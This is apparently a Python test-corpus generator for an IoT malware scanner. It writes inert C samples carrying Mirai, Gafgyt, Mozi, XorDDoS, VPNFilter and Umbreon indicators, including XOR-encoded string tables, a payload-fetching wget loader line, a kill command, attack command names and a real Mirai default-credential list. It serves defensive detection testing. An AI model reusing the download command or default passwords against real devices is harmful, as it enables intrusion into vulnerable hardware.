#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Writes one harmless C program per IoT malware family (and notable variant).

Each program only embeds the family's indicators as data -- its XOR-encoded
string table, plaintext strings, exported symbol names -- and prints one line.
There is no networking and no behaviour: the scan tests read the compiled
files, they never run them. Encoded forms are computed here from the
plaintexts in shared/threats.md (section named per sample), never typed in.

  generate.py OUTDIR            write OUTDIR/<sample>.c (unchanged files are kept)
  generate.py --expect          print the expectations (JSON) the scan test checks

Build them for every architecture with tests/corpus/build.sh OUTDIR/BIN *.c.
"""
import argparse, json, os, sys

# Values the test asserts after decoding. Reserved names and TEST-NET
# addresses (RFC 2606, RFC 5737): nothing here points at a real host.
MIRAI_C2 = ("cnc.iotguard-test.example", 23)
MIRAI_REPORT = ("report.iotguard-test.example", 48101)
# Dictionary pairs from shared/threats.md s2.2 (all are in signatures/credentials/mirai.tsv).
MIRAI_CREDS = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"),
               ("root", "xmhdipc"), ("support", "support"), ("root", "7ujMko0admin"),
               ("admin", "smcadmin")]
MOZI_KEY = bytes.fromhex("4E665A8F80C8AC238DAC4706D54F6F7E")  # s8, mozitools conf.py
MOZI_TAGS = [("ss", "bot"), ("hp", "88888888"), ("cpux", "mips"), ("count", "http://192.0.2.7/c"),
             ("dip", "192.0.2.8:8080"), ("ver", "2")]
MOZI_CONFIG_SIZE = 428  # config text; two ECDSA-384 signatures and 4 bytes follow (s8)


def xor(data, key):
    if isinstance(data, str):
        data = data.encode("latin-1")
    if isinstance(key, int):
        key = bytes([key])
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def cstrings(*texts):
    """Plain C strings, each with its NUL, as the compiler lays out literals."""
    return b"".join(t.encode("latin-1") + b"\0" for t in texts)


def mirai_table(key, c2, report, creds):
    """bot/table.c layout (s2.1): each entry encoded *with* its NUL, then the
    literal's own NUL; ports as two encoded bytes; scanner.c credentials
    encoded without the NUL (s2.2). Same layout as tests/support/mirai_sample.h."""
    out = bytearray()

    def entry(s):
        out.extend(xor(s + "\0", key) + b"\0")

    def port(p):
        out.extend(xor(bytes([p >> 8, p & 0xff]), key) + b"\0")

    entry("listening tun0")
    entry(c2[0])
    port(c2[1])
    for s in ["https://youtu.be/dQw4w9WgXcQ", "/proc/", "/exe", " (deleted)", "/fd", ".anime",
              "/status", "REPORT %s:%s", "HTTPFLOOD", "LOLNOGTFO", "zollard", "GETLOCALIP"]:
        entry(s)
    entry(report[0])
    port(report[1])
    for s in ["shell", "enable", "system", "sh", "/bin/busybox MIRAI", "MIRAI: applet not found",
              "ncorrect", "/bin/busybox ps", "/bin/busybox kill -9 ", "TSource Engine Query",
              "/etc/resolv.conf", "nameserver "]:
        entry(s)
    for user, password in creds:
        out.extend(xor(user, key) + b"\0" + xor(password, key) + b"\0")
    return bytes(out)


def mozi_blob():
    text = "".join(f"[{t}]{v}[/{t}]" for t, v in MOZI_TAGS).encode()
    assert len(text) < MOZI_CONFIG_SIZE
    plain = text + b"\0" * (MOZI_CONFIG_SIZE - len(text))
    # The signatures are not checked by anyone: fixed filler stands in for them.
    return xor(plain, MOZI_KEY) + bytes(range(96)) * 2 + b"\0\0\0\0"


# --- Samples -----------------------------------------------------------------
# name -> (family expected, rules expected (any of), shared object?, data blocks, note)
# Each data block is (C identifier, bytes).


def samples():
    s = {}
    s["mirai"] = dict(
        family="Mirai", rules=["IoT_Mirai_Table"], section="s2.1-s2.2, s2.5",
        data=[("table", mirai_table(0x22, MIRAI_C2, MIRAI_REPORT, MIRAI_CREDS)),
              ("plain", cstrings("/dev/watchdog", "/dev/misc/watchdog"))])
    s["mirai_loader"] = dict(
        family="Mirai", rules=["IoT_Mirai_Plaintext"], section="s2.3",
        data=[("plain", cstrings("/bin/busybox ECCHI", "ECCHI: applet not found", "dvrHelper",
                                 "wget http://%s:%d/bins/mirai.%s -O - > dvrHelper",
                                 "GET /bins/mirai.%s HTTP/1.0", ".nippon", "kami"))])
    s["satori"] = dict(
        family="Mirai", rules=["IoT_Mirai_Satori_Okiru"], section="s2.9",
        data=[("table", b"".join(xor(t + "\0", 0x07) + b"\0" for t in [
            "dvrHelper", "/dev/watchdog", "TSource Engine Query", "/bin/busybox",
            "/dev/misc/watchdog", "/proc/net/tcp", "/etc/resolv.conf"])),
              ("plain", cstrings("/bins/satori"))])
    # A fork that re-keys the table: no 0x22/0x07 rule applies, only the
    # any-key rule, the extractor and the heuristics.
    s["mirai_rekeyed"] = dict(
        family="Mirai", rules=["IoT_Mirai_Table_AnyKey"], section="s2.1, s2.9", xor_key="0x5a",
        data=[("table", mirai_table(0x5A, MIRAI_C2, MIRAI_REPORT, MIRAI_CREDS))])
    s["gafgyt"] = dict(
        family="Gafgyt", rules=["IoT_Gafgyt_Commands"], section="s3",
        data=[("plain", cstrings("/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'",
                                 "gayfgt", "multi-call", "PONG!", "GETLOCALIP", "SCANNER ON",
                                 "SCANNER OFF", "KILLATTK", "LOLNOGTFO", "BUILD %s",
                                 "REPORT %s:%s:%s", "BOGOMIPS", "/proc/net/route"))])
    s["tsunami"] = dict(
        family="Tsunami", rules=["IoT_Tsunami_Kaiten"], section="s4",
        data=[("plain", cstrings("NICK %s", "USER %s localhost localhost :",
                                 "NOTICE %s :TSUNAMI <target> <secs>",
                                 "NOTICE %s :Tsunami heading for %s.", "Panning",
                                 "Kaiten wa goraku", "GETSPOOFS", "KILLALL",
                                 "PRIVMSG %s :[STD]Hitting %s"))])
    s["luabot"] = dict(
        family="LuaBot", rules=["IoT_LuaBot"], section="s5",
        data=[("plain", cstrings("Hi. Happy reversing, you can mail me: luabot@yandex.ru",
                                 "LUA_PATH", "/tmp/lua_XXXXXX", "NOTIFY", "UPDATE",
                                 "Lua 5.3.0", "Copyright (C) 1994-2015 Lua.org, PUC-Rio"))])
    s["hajime"] = dict(
        family="Hajime", rules=["IoT_Hajime"], section="s7",
        data=[("plain", cstrings("Just a white hat, securing some systems.",
                                 "%d (!=0),user/pass auth will not work, ignored.", "/etc/TZ",
                                 ",M4.1.0,M10.5.0", "%u.%u.%u.%u.in-addr.arpa"))])
    s["mozi"] = dict(
        family="Mozi", rules=["IoT_Mozi"], section="s8", mozi_tags=dict(MOZI_TAGS),
        data=[("config", mozi_blob()),
              ("plain", cstrings("dht.transmissionbt.com", "router.bittorrent.com",
                                 "router.utorrent.com", "bttracker.debian.org"))])
    s["xorddos"] = dict(
        family="XorDDoS", rules=["IoT_XorDDoS"], section="s9",
        data=[("plain", cstrings("BB2FA36AAA9541F0", "denyip=", "rmfile=", "md5=", "filename=",
                                 "exec_packet", "build_iphdr", "/var/run/gcc.pid",
                                 "/lib/libudev.so", "/etc/cron.hourly/gcc.sh", "%d--%s_%d:%s"))])
    s["vpnfilter"] = dict(
        family="VPNFilter", rules=["IoT_VPNFilter"], section="s10",
        data=[("plain", cstrings("/var/run/vpnfilterw", "/var/run/vpnfilterm", "toknowall.com",
                                 "/var/run/torrc", "/var/run/tord", "/dev/mtdblock0")),
              ("trigger", bytes([0x0C, 0x15, 0x22, 0x2B]))])
    s["umbreon"] = dict(
        family="Umbreon", rules=["IoT_Umbreon_Hook_Set", "IoT_Umbreon_Artefacts"], section="s6",
        shared=True,
        hooks=["pam_authenticate", "pam_acct_mgmt", "audit_log_acct_message", "pututxline",
               "pcap_loop", "readdir64", "getspnam", "getpwnam", "__lxstat64", "execve", "unlink",
               "rename", "readlink", "spoof_maps", "get_hideports", "reinstall_self"],
        data=[("plain", cstrings("/etc/ld.so.NfitFd2", "ld.so.preload", "/.ldso/strace.so",
                                 "/hideports", "/.init-append", "/promptlog", "/bin/espeon",
                                 "/usr/share/libc.so.%s.x86_64.ld-2.22.so"))])
    # No family rule names it, but it has the traits of one (docs/heuristics.md).
    s["unknown_bot"] = dict(
        family=None, rules=["Heur.IoTBot"], section="s2.4, s2.5, s2.7, s2.2",
        data=[("plain", cstrings("UDPFLOOD", "SYNFLOOD", "ACKFLOOD", "/proc/net/tcp",
                                 "/proc/%d/exe", "/bin/busybox QBOTX ", "8.8.8.8",
                                 "/dev/watchdog", "/dev/misc/watchdog", "Zte521", "hi3518",
                                 "jvbzd", "klv123", "/bins/bot.mpsl"))])
    return s


def c_array(name, data):
    rows = [", ".join("0x%02x" % b for b in data[i:i + 16]) for i in range(0, len(data), 16)]
    body = ",\n  ".join(rows)
    return (f"__attribute__((used)) static const unsigned char {name}[{len(data)}] = {{\n"
            f"  {body}\n}};\n")


def render(name, spec):
    what = spec["family"] or "an unknown IoT bot"
    lines = [
        "// SPDX-License-Identifier: GPL-2.0-or-later",
        "// GENERATED by tests/corpus/families/generate.py -- do not edit.",
        f"// Harmless sample: the indicators of {what} (shared/threats.md {spec['section']})",
        "// as inert data, and nothing else. It is scanned, never run.",
    ]
    if spec.get("shared"):
        lines.append("// iotguard-corpus: shared-object")
    lines.append("")
    if not spec.get("shared"):
        lines += ["#include <stdio.h>", ""]
    for ident, data in spec["data"]:
        lines.append(c_array(f"{name}_{ident}", data))
    if spec.get("shared"):
        # Exported names as a preload rootkit hooks them; empty stubs, never
        # called (the prototypes are deliberately not libc's).
        for h in spec["hooks"]:
            lines.append(f"int {h}(void) {{ return 0; }}")
    else:
        lines += ["int main(void) {",
                  f'  puts("IoTGuard test sample {name}: indicators only, no behaviour");',
                  "  return 0;", "}"]
    return "\n".join(lines) + "\n"


def expectations():
    out = {}
    for name, spec in samples().items():
        e = {"family": spec["family"], "rules": spec["rules"], "shared": bool(spec.get("shared"))}
        if name in ("mirai", "mirai_rekeyed"):
            e["xor_key"] = spec.get("xor_key", "0x22")
            e["c2"] = [{"host": MIRAI_C2[0], "port": MIRAI_C2[1]},
                       {"host": MIRAI_REPORT[0], "port": MIRAI_REPORT[1]}]
            e["credentials"] = [{"user": u, "password": p} for u, p in MIRAI_CREDS]
        if "mozi_tags" in spec:
            e["mozi_tags"] = spec["mozi_tags"]
        out[name] = e
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("outdir", nargs="?")
    ap.add_argument("--expect", action="store_true", help="print the expectations as JSON")
    a = ap.parse_args()
    if a.expect:
        json.dump(expectations(), sys.stdout, indent=1)
        print()
        return
    if not a.outdir:
        ap.error("OUTDIR is required")
    os.makedirs(a.outdir, exist_ok=True)
    for name, spec in samples().items():
        path = os.path.join(a.outdir, name + ".c")
        text = render(name, spec)
        # Keep the file (and its mtime) when unchanged, so build.sh skips it.
        if not os.path.exists(path) or open(path).read() != text:
            with open(path + ".tmp", "w") as f:
                f.write(text)
            os.replace(path + ".tmp", path)
    print(f"families: {len(samples())} sources in {a.outdir}")


if __name__ == "__main__":
    main()
